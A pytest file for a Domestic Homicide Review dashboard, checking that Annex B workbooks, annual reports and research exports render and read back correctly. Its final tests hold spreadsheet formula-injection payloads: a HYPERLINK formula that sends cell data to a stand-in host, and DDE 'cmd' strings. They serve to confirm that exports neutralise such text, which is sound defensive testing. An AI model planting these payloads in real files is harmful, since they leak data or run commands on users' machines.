"""The downloads open where people open them: the Annex B progress update with openpyxl (and reads
back through `dhr ingest`'s parser), the annual report with python-docx, as well-formed HTML and as a
PDF, and the researcher's CSV and XLSX."""

from __future__ import annotations

import io
import shutil
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from docx import Document

from dashboards.data import oversight, research
from dashboards.reports import annex_b, annual
from dhr import research_export
from dhr.access import Scope, using_scope
from ingest.parse import parse_file

HACKNEY, MAIDSTONE = "E22000012", "E22000178"
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class WellFormed(HTMLParser):
    """Fails on a closing tag that does not match the open one, and on tags left open."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.seen: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.seen.append(tag)
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.seen.append(tag)

    def handle_endtag(self, tag):
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes <{self.stack[-1] if self.stack else None}>"
        self.stack.pop()


def check_html(text: str) -> WellFormed:
    parser = WellFormed()
    parser.feed(text)
    parser.close()
    assert parser.stack == [], f"left open: {parser.stack}"
    return parser


def unzip(content: bytes, into: Path) -> list[Path]:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        assert zf.testzip() is None
        zf.extractall(into)
        return [into / name for name in zf.namelist()]


def action_numbers(path: Path) -> list[str]:
    ws = openpyxl.load_workbook(path)["Action plan"]
    header_row = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "Rec. no.")
    headers = [c.value for c in ws[header_row]]
    col = headers.index("Action no.") + 1
    numbers = []
    for r in range(header_row + 1, ws.max_row + 1):
        value = ws.cell(r, col).value
        if value in (None, ""):
            break
        numbers.append(str(value))
    return numbers


def test_annex_b_zip_holds_one_workbook_per_dhr_with_the_csps_actions(warehouse, tmp_path):
    name, content, updates = annex_b.build_csp_progress_update(HACKNEY)
    assert name == "Hackney quarterly progress update 2026-09-30.zip"
    files = unzip(content, tmp_path)
    assert sorted(p.name for p in files) == ["Hackney DHR-2021-01 progress update as at 2026-06-30.xlsx", "README.txt"]
    workbook = next(p for p in files if p.suffix == ".xlsx")
    assert action_numbers(workbook) == ["1.1", "1.2", "2.1"]
    ws = openpyxl.load_workbook(workbook)["Action plan"]
    values = [c for row in ws.iter_rows(values_only=True) for c in row if c is not None]
    assert "Audit MARAC referrals" in values and "RED" in values and "COMPLETE" in values
    readme = (tmp_path / "README.txt").read_text()
    assert "3 actions, 1 overdue" in readme and "2024 draft statutory guidance, Annex B" in readme
    assert (updates[0].action_count, updates[0].overdue_count) == (3, 1)


def test_annex_b_workbook_reads_back_through_ingest(warehouse, tmp_path):
    rows = oversight.get_action_plan_rows(HACKNEY)
    files = unzip(annex_b.zip_for_rows("Hackney", rows, None), tmp_path)
    parsed = parse_file(next(p for p in files if p.suffix == ".xlsx"))
    assert parsed.errors == []
    # The fixture's CSP codes are made up; the reference data resolves the name "Hackney" itself.
    assert parsed.form_type == "action_plan" and parsed.dhr_reference == "DHR/2021/01" and parsed.csp_code
    actions = parsed.rows["action_plan__actions"]
    assert sorted(a["action_number"] for a in actions) == ["1.1", "1.2", "2.1"]
    assert {a["status"] for a in actions} == {"complete", "red", "green"}


def header_value(path: Path, label: str):
    """The value beside ``label`` in the header block above the table of an Annex B workbook."""
    ws = openpyxl.load_workbook(path)["Action plan"]
    return next(ws.cell(r, 2).value for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == label)


def test_annex_b_workbook_keeps_the_governance_arrangements(warehouse, tmp_path):
    """003 L776: the re-issued workbook states the governance arrangements the CSP last gave, in the
    header where the CSP wrote them, and `dhr ingest` reads them back from it."""
    rows = oversight.get_action_plan_rows(HACKNEY)
    workbook = next(p for p in unzip(annex_b.zip_for_rows("Hackney", rows, None), tmp_path) if p.suffix == ".xlsx")
    governance = "Reported to the Hackney CSP board every quarter"
    assert header_value(workbook, "Governance arrangements") == governance
    (plan,) = parse_file(workbook).rows["action_plan__plans"]
    assert plan["governance"] == governance


def test_annex_b_workbook_without_governance_leaves_the_cell_empty(warehouse, tmp_path):
    rows = oversight.get_action_plan_rows(HACKNEY).with_columns(action_plan_governance=pl.lit(None, pl.Utf8))
    workbook = next(p for p in unzip(annex_b.zip_for_rows("Hackney", rows, None), tmp_path) if p.suffix == ".xlsx")
    assert header_value(workbook, "Governance arrangements") is None
    (plan,) = parse_file(workbook).rows["action_plan__plans"]
    assert plan["governance"] is None


def test_annex_b_for_a_csp_with_no_actions_is_an_empty_update(warehouse, tmp_path):
    _, content, updates = annex_b.build_csp_progress_update(MAIDSTONE)
    assert updates == []
    assert [p.name for p in unzip(content, tmp_path)] == ["README.txt"]
    assert annex_b.workbook_summary(oversight.get_action_plan_rows(MAIDSTONE)).height == 0


def test_annex_b_zip_is_the_same_bytes_for_the_same_data(warehouse):
    rows = oversight.get_action_plan_rows(HACKNEY)
    assert annex_b.zip_for_rows("Hackney", rows, None) == annex_b.zip_for_rows("Hackney", rows, None)


@pytest.fixture(scope="module")
def report_files(warehouse_template, tmp_path_factory):
    """The 2024 annual report in every format, made once for the tests that read it (each made the
    same files from the same fixture warehouse, 2-4 s each: issue 16), from a copy of the fixture
    warehouse in the national scope, as the per-test fixtures give."""
    warehouse = tmp_path_factory.mktemp("report_files") / "dhr.duckdb"
    shutil.copyfile(warehouse_template, warehouse)
    with pytest.MonkeyPatch.context() as env, using_scope(Scope.national()):
        env.setenv("DHR_DB", str(warehouse))
        report = annual.gather(2024)
        parts = annual.sections(report)
        images = annual.chart_images(parts)
        files = {
            "report": report,
            "parts": parts,
            "images": images,
            "docx": annual.render_docx(report, parts, images),
            "html": annual.render_html(report, parts, images),
            "pdf": annual.render_pdf(report, parts, images),
        }
    return files  # the caches it filled are cleared before each test (clean_caches)


def test_report_docx_has_the_headings_pictures_and_tables(report_files):
    doc = Document(io.BytesIO(report_files["docx"]))
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading") or p.style.name == "Title"]
    assert headings[0] == "Domestic Homicide Reviews: annual thematic report: 2024"
    numbered = [h for h in headings if h[:1].isdigit()]
    for heading in (
        "DHRs published in 2024",
        "Risk factors",
        "Agency contact",
        "Protected characteristics",
        "Children in the household and verdicts",
        "Learning themes",
        "Emerging topics",
        "National recommendations tracker",
        "Implementation by force area",
        "Methods and coverage",
    ):
        assert any(h.split(". ", 1)[1] == heading for h in numbered), heading
    assert len(doc.inline_shapes) == len(report_files["images"]) >= 5
    assert len(doc.tables) >= 6
    tracker = next(t for t in doc.tables if "Answered?" in [c.text for c in t.rows[0].cells])
    assert [c.text for c in tracker.rows[0].cells][3:5] == ["Notified?", "Answered?"]
    assert [row.cells[0].text for row in tracker.rows[1:]] == [
        "Home Office",
        "MHCLG",
        "Department for Levelling Up, Housing and Communities",
        "NHS England",
    ]
    # Issue 18: the table by department counts DLUHC and MHCLG as one, under its current name.
    by_department = next(t for t in doc.tables if t.rows[0].cells[0].text == "Department")
    assert [row.cells[0].text for row in by_department.rows[1:]][:1] == [
        "Ministry of Housing, Communities and Local Government"
    ]
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "Denominators exclude Not known" in text and "2024 draft statutory guidance, Annex F" in text
    assert "6 DHRs and 5 actions" in text and "30/09/2026" in text


def test_report_docx_reads_as_a_finished_document(report_files):
    """Issue 18: a title page, a contents list, numbered sections, charts with alt text and tables
    that fit an A4 page."""
    from docx.shared import Cm

    doc = Document(io.BytesIO(report_files["docx"]))
    body = [(p.text, p.style.name, "w:br" in p._p.xml and 'w:type="page"' in p._p.xml) for p in doc.paragraphs]
    breaks = [i for i, (_, _, page_break) in enumerate(body) if page_break]
    assert len(breaks) >= 2, "a title page and a contents page, each ended by a page break"
    title_page = [text for text, _, _ in body[: breaks[0]]]
    assert title_page[0].endswith(": 2024") and "DHRs published in 2024" in title_page
    assert any(t.startswith("OFFICIAL-SENSITIVE") for t in title_page)
    contents = [text for text, _, _ in body[breaks[0] + 1 : breaks[1]] if text]
    sections = [h for h, style, _ in body[breaks[1] :] if style == "Heading 1"]
    assert contents[0] == "Contents" and contents[1:] == sections
    assert sections[0] == "1. DHRs published in 2024" and sections[-1].endswith("Methods and coverage")
    assert [int(h.split(".")[0]) for h in sections] == list(range(1, len(sections) + 1))
    for shape in doc.inline_shapes:  # every chart says what it shows to a screen reader
        assert shape._inline.docPr.get("descr", "").startswith("Chart: ")
    section = doc.sections[0]
    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    text_width = section.page_width - section.left_margin - section.right_margin
    for table in doc.tables:
        assert sum(cell.width for cell in table.rows[0].cells) <= text_width + Cm(0.05)
        assert "w:tblHeader" in table.rows[0]._tr.xml  # the header row repeats on every page
    assert "OFFICIAL-SENSITIVE" in section.footer.paragraphs[0].text


def test_report_pdf_has_a_contents_page_bookmarks_and_alt_text(report_files):
    pdf = report_files["pdf"]
    assert b"/Outlines" in pdf  # each numbered section is a bookmark
    assert pdf.count(b"/Alt ") + pdf.count(b"/Alt(") >= len(report_files["images"])


def test_report_html_is_well_formed_with_images_and_tables(report_files):
    page = report_files["html"]
    parser = check_html(page)
    assert parser.seen.count("img") == len(report_files["images"])
    assert parser.seen.count("table") >= 6 and "h2" in parser.seen
    assert "data:image/png;base64," in page and "Methods and coverage" in page


def test_report_pdf_is_a_pdf_with_pages(report_files):
    pdf = report_files["pdf"]
    assert pdf.startswith(b"%PDF-") and pdf.rstrip().endswith(b"%%EOF")
    assert pdf.count(b"/Type /Page") >= 3
    assert b"/Subtype /Image" in pdf


def test_report_for_a_year_with_no_publications_still_renders(warehouse):
    report = annual.gather(2025)
    parts = annual.sections(report)
    assert "No DHR was published in 2025" in parts[0].placeholder
    doc = Document(io.BytesIO(annual.render_docx(report, parts)))
    assert any(p.text.endswith(". National recommendations tracker") for p in doc.paragraphs)
    check_html(annual.render_html(report, parts))
    assert annual.render_pdf(report, parts).startswith(b"%PDF-")


def test_research_csv_xlsx_and_parquet_carry_the_rule(warehouse, tmp_path):
    frame, counts, policy = research.get_controlled_research_table("DHRs by status")
    export = research_export.ResearchExport("DHRs by status", frame, counts, policy, "all regions")
    csv = research_export.to_csv_bytes(export)
    assert csv.startswith(b"\xef\xbb\xbf")
    text = csv[3:].decode("utf-8")
    assert f"# Rule: {policy.rule}" in text
    back = pl.read_csv(io.StringIO(text), comment_prefix="#")
    assert back.columns == frame.columns and back.height == frame.height
    path = tmp_path / "research.xlsx"
    path.write_bytes(research_export.to_xlsx_bytes(export))
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Data", "Notes"]
    assert [c.value for c in wb["Data"][1]] == frame.columns
    assert wb["Data"].max_row == frame.height + 1
    notes = {row[0]: row[1] for row in wb["Notes"].iter_rows(values_only=True)}
    assert notes["Rule"] == policy.rule and notes["Disclosure control"].startswith("hes")
    assert {"Source", "Coverage", "Created"} <= set(notes)
    parquet = tmp_path / "research.parquet"
    parquet.write_bytes(research_export.to_parquet_bytes(export))
    assert pl.read_parquet(parquet).height == frame.height
    import pyarrow.parquet as pq

    assert pq.read_schema(parquet).metadata[b"dhr:rule"].decode() == policy.rule


# Formula injection (issue 15): every download is read back and no cell is a formula.
HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
HOSTILE_TEXTS = {
    "action": HOSTILE,
    "progress": "+cmd|' /C calc'!A0",
    "outcome": "@SUM(1+1)*cmd|' /C calc'!A0",
    "responsible_lead": "-2+3",
    "milestones": "\t=1+1",
    "recommendation": "=1+1",
}


def assert_no_formula(path: Path) -> list:
    """Every cell of every sheet: never a formula; a formula-like text is a text cell Excel keeps as text."""
    from dhr.safe_cells import is_formula_like

    wb = openpyxl.load_workbook(path)
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    hostile = [c for c in cells if is_formula_like(c.value)]
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile), [(c.coordinate, c.value) for c in hostile]
    return [c.value for c in cells]


def test_annex_b_writes_formula_like_text_as_text_and_reads_it_back(warehouse, tmp_path):
    rows = oversight.get_action_plan_rows(HACKNEY).with_columns(
        *(pl.lit(text).alias(name) for name, text in HOSTILE_TEXTS.items())
    )
    files = unzip(annex_b.zip_for_rows("Hackney", rows, None), tmp_path)
    workbook = next(p for p in files if p.suffix == ".xlsx")
    values = assert_no_formula(workbook)
    assert HOSTILE in values  # the text itself is kept: the CSP sees and returns what it wrote
    parsed = parse_file(workbook)
    assert parsed.errors == []
    assert {a["action"] for a in parsed.rows["action_plan__actions"]} == {HOSTILE}


def test_research_csv_and_xlsx_escape_formula_like_text(warehouse, tmp_path):
    import csv

    from dhr.safe_cells import is_formula_like

    frame, counts, policy = research.get_controlled_research_table("DHRs by status")
    frame = frame.with_columns(pl.lit(HOSTILE).alias(frame.columns[0]))
    export = research_export.ResearchExport("DHRs by status", frame, counts, policy, "all regions")
    text = research_export.to_csv_bytes(export).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows and all(not is_formula_like(field) for row in rows for field in row)
    assert any(field == "'" + HOSTILE for row in rows for field in row)
    path = tmp_path / "research.xlsx"
    path.write_bytes(research_export.to_xlsx_bytes(export))
    assert HOSTILE in assert_no_formula(path)
